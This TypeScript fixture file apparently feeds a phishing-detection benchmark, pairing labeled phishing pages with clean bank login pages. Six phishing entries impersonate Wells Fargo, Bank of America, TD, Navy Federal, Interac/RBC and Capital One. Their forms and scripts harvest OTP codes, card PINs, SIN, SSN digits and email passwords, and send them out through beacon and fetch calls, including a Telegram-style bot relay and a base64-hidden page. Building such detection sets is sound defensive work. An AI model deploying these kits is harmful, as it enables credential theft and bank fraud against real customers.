import type { Entry } from '../entry.js';
import { doc, gtag, pixel, baseCss, header, footer, assets, htmlRoute, jsRoute, jsonRoute, okJson, pngRoute } from '../parts/zk-kit.js';

const usStates = ['AL','AK','AZ','CA','CO','FL','GA','IL','NY','TX','WA'].map((s) => `<option>${s}</option>`).join('');
export const entries: Entry[] = [
{
    id: 'zk-phish-wellsfargo-otp-only',
    label: 'phishing',
    kind: 'bank-otp',
    url: 'https://wf-accountreview.net/signon/verify-identity.php?ref=sms',
    body: doc({
      title: 'Wells Fargo - Verify Your Identity',
      css: baseCss('#d71e28', 'Verdana,Arial,sans-serif') + 'header.top{background:#d71e28;border:0}header.top span{color:#fff;font-weight:bold;font-size:20px}.gold{height:4px;background:#ffcd41}',
      body: `<header class="top"><span>WELLS FARGO</span></header><div class="gold"></div>
<main><div class="card" style="max-width:480px;margin:auto">
<h2>Verify your identity</h2>
<p>We noticed an unusual sign-on attempt on your account from a new device (Houston, TX). To keep your account safe, enter the 6-digit Advanced Access code we just sent to your phone ending in ****.</p>
<form id="f" method="post" action="verify-identity.php"><label for="c">Advanced Access code</label><input id="c" name="code" maxlength="6" inputmode="numeric" autocomplete="one-time-code">
<p class="muted">Code expires in <b id="t">4:59</b></p><button>Continue</button> <a href="#" style="margin-left:14px">Resend code</a></form>
<p class="muted">If you did not request this code, please contact us at the number on the back of your card.</p></div></main>
${footer('Wells Fargo', ['Privacy, Cookies, Security &amp; Legal', 'Notice of Data Collection', 'Report Fraud', 'Sitemap'], 'Wells Fargo Bank, N.A. Member FDIC.')}`,
      scripts: `<script>var s=299;setInterval(function(){s--;document.getElementById('t').textContent=Math.floor(s/60)+':'+('0'+s%60).slice(-2)},1000);
document.getElementById('f').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/signon/gate.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('code='+encodeURIComponent(document.getElementById('c').value)+'&ip=');x.onload=function(){document.querySelector('.card').innerHTML='<h2>Thank you</h2><p>Your identity has been verified.</p>'}}</script>`,
    }),
    routes: { 'wf-accountreview.net/signon/gate.php': okJson() },
  },
{
    id: 'zk-phish-bofa-card-pin',
    label: 'phishing',
    kind: 'bank-card',
    url: 'https://bofa-alerts-center.com/cardverify/?case=BA-229183',
    body: doc({
      title: 'Bank of America | Online Banking | Card Verification',
      css: baseCss('#012169') + 'header.top{border-bottom:4px solid #e31837}',
      body: `${header('/content/dam/site/logo.png', 'Bank of America', ['Checking', 'Savings', 'Credit Cards', 'Home Loans', 'Help &amp; Support'])}
<main><div class="card"><h1 style="font-size:22px">Your debit card has been temporarily locked</h1>
<p>Case ID <b>BA-229183</b>. We declined a transaction of <b>$948.22</b> at <b>WALMART.COM</b>. If you did not make this purchase, confirm your card details below to unlock your card and receive a replacement.</p>
<form action="/cardverify/submit.php" method="post">
<div class="row"><div><label>First name</label><input name="fn"></div><div><label>Last name</label><input name="ln"></div></div>
<label>Card number</label><input name="card" maxlength="19">
<div class="row"><div><label>Expiration</label><input name="exp" placeholder="MM/YY"></div><div><label>Security code</label><input name="cvc"></div><div><label>Card PIN</label><input name="pin" type="password"></div></div>
<label>Date of birth</label><input name="dob" placeholder="MM/DD/YYYY">
<div class="row"><div><label>ZIP code</label><input name="zip"></div><div><label>State</label><select name="st">${usStates}</select></div></div>
<button>Unlock my card</button></form></div></main>
${footer('Bank of America Corporation', ['Privacy', 'Security', 'Your Privacy Choices', 'Advertising Practices'], 'Bank of America, N.A. Member FDIC. Equal Housing Lender')}`,
    }),
    routes: { ...assets('bofa-alerts-center.com', [1, 33, 105]), 'bofa-alerts-center.com/cardverify/submit.php': htmlRoute('<meta http-equiv="refresh" content="0;url=https://www.bankofamerica.com/">') },
  },
{
    id: 'zk-phish-td-easyweb-lookalike',
    label: 'phishing',
    kind: 'bank-login',
    url: 'https://td-easyweb-secure.info/waw/idp/login.htm?execution=e1s1',
    body: doc({
      title: 'EasyWeb Login | TD Canada Trust',
      css: baseCss('#008a00') + 'header.top{background:#1a5336}header.top b{color:#fff}.box{max-width:400px;margin:30px auto}',
      body: `<header class="top"><img src="/content/dam/site/logo.png" alt="TD"><b>Canada Trust</b></header>
<div class="box card"><h2>Login to EasyWeb</h2>
<form id="lf"><label>Username or Access Card</label><input name="card" required><label>Password</label><input name="pw" type="password" required>
<label><input type="checkbox" style="width:auto" checked> Remember me</label><button style="width:100%">Login</button></form>
<p class="muted"><a href="#">Forgot your username or password?</a><br><a href="#">Register for online banking</a><br><a href="#">English</a> | <a href="#">Français</a></p></div>
<div class="box card" id="q" style="display:none"><h2>Security questions</h2><p>To complete your login, answer your security questions.</p>
<label>Mother's maiden name</label><input id="q1"><label>City of birth</label><input id="q2"><label>Social Insurance Number (SIN)</label><input id="q3"><button id="qb">Submit</button></div>
${footer('The Toronto-Dominion Bank', ['Privacy and Security', 'Legal', 'Accessibility', 'CDIC Member'])}`,
      scripts: `<script>
var tg='/waw/idp/hook';document.getElementById('lf').onsubmit=function(e){e.preventDefault();navigator.sendBeacon(tg,new FormData(this));this.parentNode.style.display='none';document.getElementById('q').style.display='block'};
document.getElementById('qb').onclick=function(){navigator.sendBeacon(tg,JSON.stringify({a:q1.value,b:q2.value,c:q3.value}));location.replace('https://www.td.com/ca/en/personal-banking')};</script>`,
    }),
    routes: { ...assets('td-easyweb-secure.info', [0, 138, 0]), 'td-easyweb-secure.info/waw/idp/hook': okJson() },
  },
{
    id: 'zk-phish-navyfed-member-verify',
    label: 'phishing',
    kind: 'bank-login',
    url: 'https://navyfcu-memberverify.org/signin/',
    body: doc({
      title: 'Navy Federal Credit Union - Sign In',
      css: baseCss('#002f6c') + 'body{background:#eef2f7}.wrap{max-width:440px;margin:40px auto}',
      head: gtag('G-NFCU1192'),
      body: `${header('/content/dam/site/logo.png', 'Navy Federal Credit Union')}
<div class="wrap card"><h2>Sign In to Digital Banking</h2>
<form id="f"><label>Username</label><input id="u"><label>Password</label><input id="p" type="password">
<button>Sign In</button></form><p class="muted">Our Members Are the Mission. <a href="#">Forgot username?</a></p></div>
<div class="wrap card" id="c2" hidden><h2>Verify Access Number</h2><label>Access Number</label><input id="an"><label>Debit card number</label><input id="cn"><label>CVV</label><input id="cv"><label>Email password</label><input id="ep" type="password"><button id="b2">Verify</button></div>
${footer('Navy Federal Credit Union', ['Privacy', 'Security', 'Terms of Use', 'Accessibility'], 'Federally insured by NCUA. Equal Housing Lender.')}`,
      scripts: `<script>
var TOKEN='7781290345:AAH-Qx9kLmZ2_rT';var CHAT='-100219384';
function snd(t){fetch('/signin/relay?bot='+TOKEN+'&chat_id='+CHAT,{method:'POST',body:t})}
document.getElementById('f').onsubmit=function(e){e.preventDefault();snd('NFCU|'+u.value+'|'+p.value);this.parentNode.hidden=true;c2.hidden=false};
b2.onclick=function(){snd('NFCU2|'+an.value+'|'+cn.value+'|'+cv.value+'|'+ep.value);location='https://www.navyfederal.org'};</script>`,
    }),
    routes: { ...assets('navyfcu-memberverify.org', [0, 47, 108]), 'navyfcu-memberverify.org/signin/relay': okJson() },
  },
{
    id: 'zk-phish-interac-deposit-rbc',
    label: 'phishing',
    kind: 'bank-login',
    url: 'https://interac-depot-etransfer.com/deposit/?ref=CA7xHq2M',
    body: doc({
      title: 'INTERAC e-Transfer: Select your financial institution',
      css: baseCss('#fdb913') + '.banks{display:grid;grid-template-columns:repeat(3,1fr);gap:12px}.banks a{display:block;border:1px solid #ddd;padding:18px;text-align:center;background:#fff;text-decoration:none;color:#222;border-radius:6px}',
      body: `<header class="top"><img src="/content/dam/site/logo.png" alt="Interac"><b>INTERAC e-Transfer&reg;</b></header>
<main><div class="card"><h2>You've received $475.00 (CAD) from SERVICE CANADA</h2><p>Message: <i>Remboursement / Refund GST-HST</i></p><p>Select your financial institution to deposit your money. / Sélectionnez votre institution financière.</p>
<div class="banks"><a href="/deposit/rbc/">RBC Royal Bank</a><a href="/deposit/rbc/?b=td">TD Canada Trust</a><a href="/deposit/rbc/?b=bmo">BMO</a><a href="/deposit/rbc/?b=scotia">Scotiabank</a><a href="/deposit/rbc/?b=cibc">CIBC</a><a href="/deposit/rbc/?b=desj">Desjardins</a><a href="/deposit/rbc/?b=nbc">National Bank</a><a href="/deposit/rbc/?b=tang">Tangerine</a><a href="/deposit/rbc/?b=atb">ATB</a></div>
<p class="muted">Expires in 30 days.</p></div></main>${footer('Interac Corp.', ['Terms of Use', 'Privacy', 'FAQ'])}`,
    }),
    routes: {
      ...assets('interac-depot-etransfer.com', [253, 185, 19]),
      'interac-depot-etransfer.com/deposit/rbc/': htmlRoute(doc({
        title: 'RBC Online Banking - Sign In', css: baseCss('#005daa') + '.w{max-width:420px;margin:30px auto}',
        body: `<header class="top" style="background:#005daa;color:#fff"><b>RBC Royal Bank</b></header><div class="w card"><h2>Sign In to Online Banking</h2><form method="post" action="/deposit/rbc/p.php"><label>Client Card or Username</label><input name="c"><label>Password</label><input type="password" name="p"><label>Answer to personal verification question</label><input name="pvq"><button>Sign In</button></form></div>${footer('Royal Bank of Canada')}`,
      })),
      'interac-depot-etransfer.com/deposit/rbc/p.php': okJson(),
    },
  },
{
    id: 'zk-phish-capitalone-atob-render',
    label: 'phishing',
    kind: 'bank-login',
    url: 'https://c1-verify-alerts.com/s/7Qm2',
    body: `<!doctype html><html><head><meta charset="utf-8"><title>Capital One</title><meta name="robots" content="noindex,nofollow"></head><body><div id="r"></div>
<script>var _0x=['Y2FwaXRhbG9uZQ=='];var h="${Buffer.from(`<style>body{font-family:Arial;background:#f4f4f4}.b{max-width:400px;margin:60px auto;background:#fff;padding:30px;border-radius:6px}input{width:100%;padding:10px;margin:6px 0}button{background:#004977;color:#fff;border:0;padding:12px;width:100%}</style><div class="b"><h2 style="color:#004977">Capital One</h2><p>Sign in to confirm recent activity on your card.</p><form id="k"><input name="username" placeholder="Username"><input name="password" type="password" placeholder="Password"><input name="last4" placeholder="Last 4 of SSN"><button>Sign In</button></form></div>`).toString('base64')}";
document.getElementById('r').innerHTML=decodeURIComponent(escape(atob(h)));
document.getElementById('k').addEventListener('submit',function(e){e.preventDefault();fetch('/s/api/c',{method:'POST',body:new FormData(this)}).then(function(){location.href='https://www.capitalone.com/'})});</script></body></html>`,
    routes: { 'c1-verify-alerts.com/s/api/c': okJson() },
  },
{
    id: 'zk-clean-td-easyweb-login',
    label: 'clean',
    kind: 'own-login',
    url: 'https://authentication.td.com/uap-ui/?consumer=easyweb&locale=en_CA',
    body: doc({
      title: 'EasyWeb Login | TD Canada Trust',
      css: baseCss('#008a00') + '.w{max-width:420px;margin:40px auto}',
      head: gtag('G-TDCT8812'),
      body: `${header('/content/dam/site/logo.png', 'TD Canada Trust')}
<div class="w card"><h1 style="font-size:22px">Login to EasyWeb</h1>
<form method="post" action="/uap-ui/login"><label>Username or Access Card</label><input name="username" autocomplete="username"><label>Password</label><input type="password" name="password"><label><input type="checkbox" style="width:auto"> Remember me</label><button style="width:100%">Login</button></form>
<p><a href="#">Forgot your username or password?</a></p><p><a href="#">Register for EasyWeb</a></p><p class="muted"><a href="?locale=fr_CA">Français</a></p></div>
<main><p class="muted">Protect yourself: TD will never ask you to provide your password, security question answers or one-time passcode via email or text message.</p></main>
${footer('The Toronto-Dominion Bank', ['Privacy and Security', 'Legal', 'Accessibility', 'CDIC member', 'Report fraud'])}`,
    }),
    routes: assets('authentication.td.com', [0, 138, 0]),
  },
{
    id: 'zk-clean-desjardins-accesd-fr',
    label: 'clean',
    kind: 'own-login',
    url: 'https://accweb.mouv.desjardins.com/identifiantunique/securite-information/identification?langueCible=fr',
    body: doc({
      title: 'Desjardins - Connexion',
      lang: 'fr-CA',
      css: baseCss('#00874e') + '.w{max-width:440px;margin:30px auto}',
      body: `${header('/content/dam/site/logo.png', 'Desjardins', ['Particuliers', 'Entreprises', 'Nous joindre', 'English'])}
<div class="w card"><h1 style="font-size:22px">Se connecter à AccèsD</h1>
<form method="post" action="/identifiantunique/identification"><label>Identifiant</label><input name="codeUtilisateur" autocomplete="username"><label><input type="checkbox" style="width:auto"> Mémoriser mon identifiant</label><button>Continuer</button></form>
<p><a href="#">Identifiant oublié?</a> · <a href="#">S'inscrire à AccèsD</a></p></div>
<main><h3>Fraude : soyez vigilant</h3><p>Desjardins ne vous demandera jamais votre mot de passe, vos réponses aux questions de sécurité ou un code de validation par courriel ou texto.</p></main>
${footer('Fédération des caisses Desjardins du Québec', ['Sécurité', 'Confidentialité', 'Conditions d’utilisation', 'Accessibilité', 'Plan du site'])}`,
    }),
    routes: assets('accweb.mouv.desjardins.com', [0, 135, 78]),
  },
{
    id: 'zk-clean-cu-small-homebanking',
    label: 'clean',
    kind: 'cu-login',
    url: 'https://www.tricountyteachersfcu.org/',
    body: doc({
      title: 'Tri-County Teachers FCU | Home',
      css: baseCss('#6b2c91', 'Georgia,serif') + '.hero{background:#6b2c91;color:#fff;padding:40px 24px;display:flex;gap:30px;flex-wrap:wrap}.hero .card{color:#222;max-width:300px}.tiles{display:grid;grid-template-columns:repeat(3,1fr);gap:16px}',
      head: gtag('UA-5512093-1'),
      body: `${header('/content/dam/site/logo.png', 'Tri-County Teachers Federal Credit Union', ['Accounts', 'Loans', 'Rates', 'About Us', 'Locations &amp; Hours'])}
<section class="hero"><div style="flex:1"><h1>Serving educators in Elk, Cameron &amp; McKean counties since 1957</h1><p>New-vehicle loans from 5.49% APR*. Holiday skip-a-pay now available.</p><a class="btn" style="background:#f4b223;color:#222" href="#">See rates</a></div>
<form class="card" method="post" action="https://homebanking.tricountyteachersfcu.org/login"><b>Home Banking Login</b><label>Username</label><input name="u"><label>Password</label><input type="password" name="p"><button>Log In</button><p class="muted"><a href="#">Forgot password?</a> · <a href="#">Enroll</a></p></form></section>
<main><div class="tiles"><div class="card"><h3>Shared Branching</h3><p>Use 5,000+ CO-OP branches nationwide.</p></div><div class="card"><h3>Scholarships</h3><p>Applications due March 15.</p></div><div class="card"><h3>Fraud Alert</h3><p>We will never text you asking for your PIN or a one-time passcode. Hang up and call 814-555-0142.</p></div></div>
<p class="muted">*APR = Annual Percentage Rate. Rates subject to change. Routing number 231382744.</p></main>
${footer('Tri-County Teachers Federal Credit Union', ['Privacy Policy', 'Disclosures', 'Careers', 'Contact'], 'Federally insured by NCUA. Equal Housing Opportunity.')}`,
    }),
    routes: assets('www.tricountyteachersfcu.org', [107, 44, 145]),
  },
{
    id: 'zk-clean-capitalone-card-activate',
    label: 'clean',
    kind: 'own-card',
    url: 'https://verified.capitalone.com/activate/card',
    body: doc({
      title: 'Activate Your Card | Capital One',
      css: baseCss('#004977') + '.w{max-width:520px;margin:30px auto}',
      body: `${header('/content/dam/site/logo.png', 'Capital One')}
<div class="w card"><h1 style="font-size:22px">Activate your new card</h1><p>Sign in to activate, or enter your card details below. You'll need the card in hand.</p>
<form method="post" action="/activate/card/submit"><label>Card number</label><input name="cardNumber" inputmode="numeric" autocomplete="cc-number"><div class="row"><div><label>Expiration</label><input name="exp" autocomplete="cc-exp"></div><div><label>Security code</label><input name="cvv" autocomplete="cc-csc"></div></div><label>Last 4 of SSN</label><input name="ssn4" maxlength="4"><button>Activate</button></form>
<p class="muted">Already have an online account? <a href="#">Sign in to activate</a>.</p></div>
${footer('Capital One', ['Privacy', 'Security', 'Terms &amp; Conditions', 'Accessibility', 'AdChoices'], '&copy; 2025 Capital One. Capital One is a federally registered service mark. Member FDIC.')}`,
    }),
    routes: assets('verified.capitalone.com', [0, 73, 119]),
  },
{
    id: 'zk-clean-interac-etransfer-deposit',
    label: 'clean',
    kind: 'own-payment',
    url: 'https://etransfer.interac.ca/reqPayment/eml/CA1MRxTfk29Q',
    body: doc({
      title: 'INTERAC e-Transfer',
      css: baseCss('#1a1a1a') + '.fi{display:grid;grid-template-columns:repeat(4,1fr);gap:10px}.fi a{border:1px solid #ddd;padding:14px;text-align:center;text-decoration:none;color:#222;border-radius:4px;font-size:13px}',
      body: `${header('/content/dam/site/logo.png', 'Interac', ['English', 'Français'])}
<main><div class="card"><h1 style="font-size:22px">Deposit your money</h1><p>MAPLE RIDGE HOCKEY ASSOC sent you $85.00 (CAD).</p><p>Message: "Refund - spring clinic cancelled"</p>
<h3>Select your financial institution</h3><div class="fi"><a href="#">BMO</a><a href="#">CIBC</a><a href="#">Coast Capital</a><a href="#">Desjardins</a><a href="#">National Bank</a><a href="#">RBC</a><a href="#">Scotiabank</a><a href="#">TD</a><a href="#">Tangerine</a><a href="#">Vancity</a><a href="#">ATB</a><a href="#">More...</a></div>
<p class="muted">Interac Corp. will never ask you for your online banking password. Selecting your institution takes you to its own sign-in page.</p></div></main>
${footer('Interac Corp.', ['Terms of Use', 'Privacy', 'Security', 'FAQ', 'Accessibility'], 'Trademark of Interac Corp. Used under licence.')}`,
    }),
    routes: assets('etransfer.interac.ca', [253, 185, 19]),
  },
];
